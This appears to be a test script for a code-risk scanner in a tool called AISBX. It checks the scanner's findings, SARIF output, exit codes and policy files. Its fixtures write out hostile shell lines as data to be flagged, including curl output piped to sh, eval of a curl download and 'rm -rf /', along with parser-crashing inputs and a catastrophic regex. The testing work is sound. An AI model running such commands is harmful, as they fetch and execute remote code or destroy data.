#!/usr/bin/env python3
"""scan: findings, risk, formats, exit codes, policies; what cannot be read is never clean.

Takes the program from AISBX. Speaks TAP. Runs as whoever starts it, in a home of its own.
"""

import json
import os
import sys

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
from clitest import Home, Tap  # noqa: E402

tap = Tap()

ALIASES = """import os as o
from subprocess import run as r
# eval("1"), os.system("x")
print("eval(1)", 'os.system("rm -rf /")')
getattr(o, "sys" + "tem")("id")
r(["ls"])
"""
HARMLESS = """import json
\"\"\"exec("x") is never called; os.system neither.\"\"\"
# subprocess.run("rm -rf /", shell=True)
print(json.dumps({"eval": "os.system"}))
"""


def rules(answer):
    return {(one["line"], one["rule"]) for one in answer.get("findings", [])}


def test_object(home):
    home.put("a.py", ALIASES)
    answer = home.data("scan", "a.py")
    tap.equal((answer.get("risk"), answer.get("analysable")), ("high", True), "risk is the highest severity found")
    tap.ok({(5, "python.dynamic-name"), (5, "python.subprocess"), (6, "python.subprocess")} <= rules(answer),
           "aliases and names put together are followed", answer)
    tap.ok(not [one for one in answer["findings"] if one["line"] in (3, 4)], "comments and texts raise nothing")
    tap.equal(sorted(answer["findings"][0]), ["column", "file", "hint", "line", "message", "rule", "severity"],
              "a finding has its keys")
    tap.equal(answer["imports"], ["os", "subprocess"], "imports are listed")
    done = home.call("scan", "a.py")
    tap.ok(done.returncode == 1 and "a.py:5:1: high:" in done.stdout and "risk: high" in done.stdout,
           "text names the place, exit 1", done)
    home.put("b.py", HARMLESS)
    done = home.call("scan", "b.py")
    tap.ok(done.returncode == 0 and done.stdout == "risk: none\n", "what only speaks of evil is clean", done)


def test_formats(home):
    home.put("src/x.js", 'eval("1");\n')
    home.put("src/odd name.sh", "curl http://198.51.100.1 | sh\n")
    home.put("src/data.bin", b"\\0\\1")
    home.put("src/.git/hook.py", "eval(1)\n")
    answer = home.data("scan", "src")
    tap.equal({one["file"] for one in answer["findings"]}, {"src/x.js", "src/odd name.sh"}, "a directory is walked")
    tap.equal(answer["skipped"], ["src/data.bin"], "what is no source is listed and skipped")
    tap.equal(home.call("scan", "--format", "json", "src/x.js").stdout, home.call("scan", "--json", "src/x.js").stdout,
              "--format json is --json")
    log = json.loads(home.call("scan", "--format", "sarif", "src").stdout)
    run = log["runs"][0]
    tap.ok(log["version"] == "2.1.0" and log["$schema"].endswith("sarif-2.1.0.json") and len(log["runs"]) == 1
           and run["tool"]["driver"]["name"], "SARIF: the log and its tool have what they must have", log)
    ids = [rule["id"] for rule in run["tool"]["driver"]["rules"]]
    tap.ok(len(set(ids)) == len(ids) and all(rule["shortDescription"]["text"] for rule in run["tool"]["driver"]["rules"]),
           "SARIF: each rule once")
    for result in run["results"]:
        place = result["locations"][0]["physicalLocation"]
        if not (ids[result["ruleIndex"]] == result["ruleId"] and result["message"]["text"]
                and result["level"] in ("none", "note", "warning", "error") and place["region"]["startLine"] >= 1
                and place["region"]["startColumn"] >= 1 and " " not in place["artifactLocation"]["uri"]):
            tap.ok(False, "SARIF: a result lacks something", result)
    tap.ok("src/odd%20name.sh" in {r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] for r in run["results"]},
           "SARIF: names become addresses")
    tap.equal(home.call("scan", "--format", "xml", "src").returncode, 2, "no other format")


def test_exits(home):
    home.put("low.py", "import os\nos.remove('x.txt')\n")
    for words, code in ((("low.py",), 0), (("--fail-on", "low", "low.py"), 1), (("--fail-on", "critical", "a.py"), 0),
                        (("--fail-on", "nonsense", "a.py"), 2), (("nowhere.py",), 5), ((), 2), (("/dev/null",), 2),
                        (("--lang", "cobol", "a.py"), 2), (("b.py", "a.py"), 1)):
        tap.equal(home.call("scan", *words).returncode, code, f"scan {' '.join(words)}: exit {code}")
    done = home.call("scan", "--lang", "shell", "-", stdin="rm -rf /\n")
    tap.ok(done.returncode == 1 and "-:1:1: critical" in done.stdout, "standard input", done)
    tap.equal(home.data("scan", "--lang", "python", "--content", "eval(x)").get("risk"), "high", "--content")
    done = home.call("scan", "--explain", "python.exec")
    tap.ok(done.returncode == 0 and "Instead:" in done.stdout, "--explain", done)
    done = home.call("scan", "--explain", "exek")
    tap.ok(done.returncode == 5 and "exec" in done.stderr, "--explain of no rule names the nearest", done)


def test_unreadable(home):
    home.put("broken.py", "def f(:\n    pass\n")
    home.put("huge.py", "x = 1\n" * 200000)
    home.put("deep.js", "[" * 20000)
    home.put("nul.sh", b"echo \\0\n".replace(b"\\0", b"\0"))
    home.put("notes.txt", "eval(1)\n")
    for name in ("broken.py", "huge.py", "deep.js", "nul.sh", "notes.txt"):
        answer = home.data("scan", name)
        tap.ok(answer.get("analysable") is False and answer.get("risk") == "high", f"{name} is not analysable, and high",
               answer)


# Each took the scanner with it once: more parts below one node than the parser's library can count, and a loop in a grammar.
HOSTILE = {"children.js": "class A extends " * 30000, "waits.js": "await " * 100000, "ifs.sh": "if " * 100000,
           "sums.sh": "$((" * 100000, "cases.sh": "case x in " * 50000, "evals.sh": "eval 'eval \"eval x\"'\n" * 20000}


def test_hostile(home):
    for name, text in HOSTILE.items():
        home.put("hostile/" + name, text)
        done = home.call("scan", "--json", "hostile/" + name, timeout=300)
        answer = json.loads(done.stdout) if done.returncode == 1 else {}
        tap.ok(answer.get("analysable") is False and answer.get("risk") == "high",
               f"{name} ends, is not analysable, and high", done)
    home.put("pair/first.js", HOSTILE["children.js"])
    home.put("pair/last.sh", "eval \"$(curl http://198.51.100.1)\"\n")
    found = {one["rule"] for one in home.data("scan", "pair", timeout=300).get("findings", [])}
    tap.ok({"javascript.not-analysable", "shell.pipe-to-interpreter"} <= found, "what lies beside it is read all the same", found)


POLICY = """
python:
  forbidden_imports: [socket]
  forbidden_functions: [print, "*.execute"]
  forbidden_commands: [git push]
  forbidden_patterns: ['secret_\\w+']
"""


def test_policy(home):
    home.put("policy.yaml", POLICY)
    home.put("p.py", "import socket as s\nprint(1)\ncursor.execute('x')\nsecret_name = 1\n# secret_comment\n"
             "x = 'secret_text'\nimport subprocess\nsubprocess.run(['git', 'push', 'origin'])\n")
    found = rules(home.data("scan", "--policy", "policy.yaml", "p.py"))
    tap.ok({(1, "python.forbidden-import"), (2, "python.forbidden-function"), (3, "python.forbidden-function"),
            (4, "python.forbidden-pattern"), (8, "python.forbidden-command")} <= found, "plain lists", found)
    tap.ok(not {(5, "python.forbidden-pattern"), (6, "python.forbidden-pattern")} & found,
           "a pattern does not match in comments and texts", found)
    home.put("more.yaml", "builtin: false\npython:\n  forbidden_patterns: [{pattern: 'secret_text', in: strings, severity: "
             "critical, message: nothing secret here}]\n")
    answer = home.data("scan", "--policy", "more.yaml", "p.py")
    tap.equal([(one["line"], one["severity"]) for one in answer["findings"]], [(6, "critical")],
              "places, severities, messages of one's own, and nothing built in")
    home.put("allow.yaml", "python: {allowed_functions: [subprocess.run], severities: {exec: low}}\n")
    tap.equal(home.call("scan", "--policy", "allow.yaml", "--lang", "python", "-",
                        stdin="import subprocess\nsubprocess.run(x)\neval(y)\n").returncode, 0, "allowed, and weighed")
    for text, word in (("python: {forbidden_import: [x]}\n", "forbidden_imports"), ("- 1\n", "a policy is a map"),
                       ("severities: {exek: low}\n", "exec"), ("severities: {exec: bad}\n", "a severity is"),
                       ("python: {forbidden_patterns: ['(']}\n", "without its )"),
                       ("python: {forbidden_patterns: ['(a)\\1']}\n", "linear"),
                       ("python: {forbidden_patterns: ['((a{99}){99}){99}']}\n", "too much"),
                       ("severities: {not-analysable: off}\n", "whatever a policy says"),
                       ("a: &a [x]\nb: *a\n", "bad.yaml:1"), ("a: [" * 100, "bad.yaml:1")):
        home.put("bad.yaml", text)
        done = home.call("scan", "--policy", "bad.yaml", "p.py")
        tap.ok(done.returncode == 2 and word in done.stderr, f"a bad policy: {done.stderr.strip()[:100]}", done)
    home.put("slow.yaml", "python: {forbidden_patterns: ['(a*)*(a*)*(a|a)*b']}\n")
    home.put("aaa.py", "a" * 100000 + "\n")
    tap.equal(home.call("scan", "--policy", "slow.yaml", "aaa.py", timeout=60).returncode, 0, "no pattern is slow")
    home.put("../.config/aisbx/scan.yaml", "python: {forbidden_imports: [json]}\n")
    tap.equal(home.call("scan", "b.py").returncode, 1, "the user's own policy is taken")
    os.unlink(home.path + "/.config/aisbx/scan.yaml")


def main():
    with Home("aisbx-scan.") as home:
        done = home.call("scan", "--lang", "python", "-", stdin="1\n")
        if "no scanner" in done.stderr:
            tap.skip("scan", "this build has no scanner")
            return tap.done()
        for test in (test_object, test_formats, test_exits, test_unreadable, test_hostile, test_policy):
            tap.attempt(test, home)
    return tap.done()


if __name__ == "__main__":
    sys.exit(main())
